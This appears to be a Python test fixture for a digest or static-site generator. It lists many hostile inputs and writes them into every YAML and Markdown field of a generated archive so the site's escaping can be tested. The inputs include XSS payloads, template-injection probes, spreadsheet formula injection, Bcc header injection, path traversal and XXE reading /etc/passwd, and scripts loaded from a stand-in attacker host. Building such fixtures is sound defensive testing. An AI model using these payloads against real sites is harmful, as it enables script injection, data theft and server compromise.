"""What an attacker would write, and an archive with it in every place where somebody may write."""

from __future__ import annotations

import json

RUN = 7 * 191
"""What a template would make of the expressions below: 1337."""

TEXTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onmouseover=alert(1) `",
    '" style="background:url(//evil.example)',
    "<style>@import '//evil.example/x.css'</style>",
    "</style><link rel=stylesheet href=//evil.example/x.css>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input name=q>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,x#y'/></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script><![CDATA[",
    "<?php echo 7 ?>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;script&amp;gt;",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7*191 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ site.__class__.__mro__[1].__subclasses__() }}",
    "{# comment #}{%- set x = 7*191 -%}{{ x }}",
    "${7*191} #{7*191} <%= 7*191 %> [[7*191]] %(site)s %s {0} {site}",
    "${{ github.token }} $(id) `id` ; id | id && id",
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
    "%0d%0aBcc: victim@example.org",
    "=?utf-8?q?x=0d=0aBcc:_victim=40example.org?=",
    "\\input{/etc/passwd} \\write18{id} \\def\\x{1}",
    "}, note = {x}, author = {Evil",
    "}} @article{evil, title={x}}",
    "TY  - EVIL ER  - ",
    "..",
    "../../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "\\\\evil.example\\share\\x",
    "file:///etc/passwd",
    "con",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "\u202egnp.exe\u202c",
    "a\u0301\u0300\u0302" * 8,
    "Z\u0336\u0335a\u0310" * 8,
    "constructor",
    "__proto__",
    "[x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "# x **x** `x` > x | x | --- [^1] #drones {#x}",
)
"""For places that hold one line of text: titles, names, captions, corrections."""

CONTROLS = (
    "\x00",
    "\x01",
    "\x02",
    "\x08",
    "\x0b",
    "\x1b[31mred",
    "\x7f",
    "\x9b31m",
    "\u2028",
    "\ufffe",
    "\ud800",
    "\r\nBcc: v@example.org",
    "\nER  - \nTY  - X",
)
"""What double quotes of YAML could smuggle in."""

MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;&#97;vascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](livescript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](blob:https://evil.example/x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](\\\\evil.example\\x)",
    "[x](https:evil.example)",
    "[x](https:///evil.example)",
    "[x](https://user:pass@evil.example/)",
    "[x](https://good.example\\@evil.example/)",
    '[x](https://evil.example/"onmouseover=alert(1))',
    "[x](https://evil.example/'onmouseover='alert(1))",
    '[x](<https://evil.example/" onmouseover="alert(1)>)',
    "[x](https://evil.example/ '\" onmouseover=\"alert(1)')",
    '[x](https://evil.example/ "<script>alert(1)</script>")',
    "[<img src=x onerror=alert(1)>](https://evil.example/)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: <data:text/html,x> '\"onclick=\"'",
    "[r]\n\n[R]: //evil.example/",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://evil.example/"onclick=alert(1)>',
    "<x@evil.example?bcc=v@example.org>",
    "[x](mailto:a@b.example?cc=c@d.example&body=%0d%0aBcc:x)",
    "[x](mailto:a@b.example%0d%0aBcc:v@example.org)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![" onerror="alert(1)](media/none.jpg)',
    "![x](media/../../../etc/passwd)",
    '![x](../media/x.svg" onerror="alert(1))',
    "![x](media/%2e%2e/%2e%2e/digest.yaml)",
    '![x](media/x.jpg "t\\" onload=\\"alert(1)")',
    "[x](../../../etc/passwd)",
    "[x](pages/../../etc/passwd)",
    "[x](%2e%2e/%2e%2e/etc/passwd)",
    "[x](topics/..)",
    "[x](topics/con)",
    "[x](issue:../../x)",
    '[x](2025-01-06#"onclick=alert(1))',
    "[x](2025-01-06#<script>)",
    '[x](#"><script>alert(1)</script>)',
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<p style='position:fixed'>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<x onclick=alert(1)>x",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<!-- a --><script>alert(1)</script>",
    "<!-- a --!><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!---><script>alert(1)</script>-->",
    "<!-- a -- b --><img src=x onerror=alert(1)>",
    "<?php alert(1) ?>",
    "<!DOCTYPE html>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "x <b onmouseover=alert(1)>y</b> z",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "`<script>alert(1)</script>`",
    '``` "><script>alert(1)</script>\nx\n```',
    '```js onload=alert(1) class="x" style="y"\n<script>alert(1)</script>\n```',
    "Text.\n\n~~~{.x onclick=alert(1)}\n</code></pre><script>alert(1)</script>\n~~~",
    "Text.\n\n    </code></pre><script>alert(1)</script>",
    "| a |\n| --- |\n| <script>alert(1)</script> |",
    "Text.\n\n| a |\n| :-: |\n| <img src=x onerror=alert(1)> |",
    "Text.\n\n| a |\n|:-----|\n| x |",
    "Text[^a].\n\n[^a]: <script>alert(1)</script>",
    'Text[^"><script>].\n\n[^"><script>]: x',
    "Text[^a].\n\n[^a]: [x](javascript:alert(1))",
    '{#x" onclick="alert(1)}\n\nText.',
    "{#x onclick=alert(1)}\n\nText.",
    "{#main .x style=color:red}\n\nText.",
    "{#x date=<script>}\n\nText.",
    "{#x}{{ 7*191 }}\n\nText.",
    "Text {onclick=alert(1)} text {.x} {: style=color:red}.",
    '#"><script>alert(1)</script>',
    "Text. #<script>",
    'Text. #drones"onclick=alert(1)',
    "{{ 7*191 }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "{{ '{{' }} 7*191 {{ '}}' }}",
    "$\\unsafe{<script>alert(1)</script>}$ \\(x\\) $$x$$",
    ":::note onclick=alert(1)\nx\n:::",
    "[[toc]] [[x|javascript:alert(1)]] :smile: {{<x>}}",
    "x\u2028<script>alert(1)</script>",
    "x\u0000<script>",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<script>alert(1)</script>\u202c",
    "### <script>alert(1)</script>\n\nText.",
    "### [x](javascript:alert(1)) `</h3><script>`\n\nText.",
    "### x {#y onclick=alert(1)}\n\nText.",
    "## Military <script>\n\nText.",
    "- <script>alert(1)</script>\n- [x](javascript:alert(1))",
    "> <script>alert(1)</script>",
    '*<img src=x onerror=alert(1)>* **"onclick=alert(1)** ~~</p><script>~~',
    "[x](https://evil.example/?a=1&lt;script&gt;&quot;onclick=alert(1))",
    "[x](https://xn--80ak6aa92e.example/) [x](https://аррle.example/)",
    "![x](media/x.svg#<script>)",
    "Text with \"quotes' -- and ... </p>\"onclick='x'",
)
"""For places that hold Markdown: items, leads, footnotes, pages, notes of sections."""


def quoted(text: str) -> str:
    """As a scalar of YAML."""
    return json.dumps(text, ensure_ascii=True)


def archive(texts: tuple[str, ...], markdown: tuple[str, ...]) -> dict[str, str]:
    """An archive with `texts` in every field that holds text, and with `markdown` wherever Markdown stands.

    Each piece of Markdown has a file of its own, so that a refused one takes no other with it.
    """
    first = quoted(texts[0])
    files = {
        "digest.yaml": (
            f"title: {first}\nurl: https://digest.example/\nshort_title: {quoted(texts[1 % len(texts)])}\n"
            f"description: {quoted(texts[2 % len(texts)])}\npublisher: {{name: {quoted(texts[3 % len(texts)])}}}\n"
            f"licence: {{name: {quoted(texts[4 % len(texts)])}, url: 'https://licence.example/'}}\n"
            f"subscription: {{action: 'https://list.example/', field: {quoted(texts[5 % len(texts)])}}}\n"
        ),
        "sections.yaml": "- {id: military, title: Military developments}\n",
        "topics.yaml": "- {id: drones, title: Drones}\n",
        "names.yaml": "- {id: vandrouny, kind: person, name: Pavel Vandrouny, short: [Vandrouny]}\n",
        "series.yaml": "",
        "media/x.svg": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path d="M0 0"/></svg>\n',
    }
    for n, text in enumerate(texts):
        t, day = quoted(f"{text} n{n}"), f"{2000 + n // 300}-{n % 300 // 25 + 1:02}-{n % 25 + 1:02}"
        files["sections.yaml"] += f"- {{id: s{n}, title: {t}, aliases: [{quoted(f'a{text}{n}')}], description: {t}}}\n"
        files["topics.yaml"] += (
            f"- {{id: t{n}, title: {t}, aliases: [{t}], group: {t}, description: {t}, see_also: [drones], match: [{t}]}}\n"
        )
        files["names.yaml"] += (
            f"- {{id: n{n}, kind: person, name: {t}, role: {t}, variants: [{quoted(f'v{text}{n}')}], be: {quoted(f'b{text}{n}')},"
            f" ru: {quoted(f'r{text}{n}')}, lacinka: {quoted(f'l{text}{n}')}, short: [{quoted(f's{text}{n}')}]}}\n"
        )
        files["series.yaml"] += (
            f"- {{id: f{n}, title: {t}, unit: {t}, kind: level, description: {t}, values: [{{date: '{day}', value: {n + 1},"
            f" source: {t}, note: {t}}}, {{date: '{day[:4]}', low: 1, high: 9, source: {t}}}]}}\n"
        )
        files[f"pages/p{n}.md"] = (
            f"---\ntitle: {t}\nsummary: {t}\nnav: {'true' if n % 9 == 0 else 'false'}\n---\n\nWords.\n"
        )
        files[f"issues/{day}.md"] = (
            f"---\ndate: {day}\ntitle: {t}\nedition: {t}\nsummary: {t}\nauthors: [{t}]\ncontributors: [{t}]\n"
            f"acknowledgements: [{t}]\nfunding: [{t}]\nkind: {'report' if n % 2 else 'review'}\n"
            f"photo: {{file: x.svg, alt: {t}, credit: {t}, link: 'https://evil.example/'}}\n"
            f"figures: [{{series: f{n}, date: '{day}', value: 3, source: {t}, note: {t}}}]\n"
            f"corrections: [{{date: {day}, text: {t}}}, {{date: {day}, text: {t}, item: one}}]\n"
            f"withdrawn: {{gone: {t}}}\nmoved: {{away: '{day}#one'}}\n---\n\n"
            + ("{#one}\n## One\n\n" if n % 2 else "## Military developments\n\n{#one}\n")
            + f"On {n % 25 + 1} January, Pavel Vandrouny spoke. #t{n} #drones\n"
        )
    for n, text in enumerate(markdown):
        day = f"{2010 + n // 300}-{n % 300 // 25 + 1:02}-{n % 25 + 1:02}"
        places = {
            "a": f"## Military developments\n\n{text}\n",
            "b": f"{text}\n\n## Military developments\n\nAn item.\n",
        }
        for key, body in places.items():
            files[f"issues/{day}-{key}.md"] = f"---\ndate: {day}\n---\n\n{body}"
        files[f"pages/m{n}.md"] = f"---\ntitle: Page {n}\n---\n\n## Part\n\n{text}\n"
        if "\0" not in text and "\ufeff" not in text:  # an error of the whole file
            files["sections.yaml"] += f"- {{id: m{n}, title: Section {n}, note: {quoted(text)}}}\n"
            files[f"issues/{day}-n.md"] = f"---\ndate: {day}\n---\n\n## Section {n}\n\nAn item.\n"
    return files
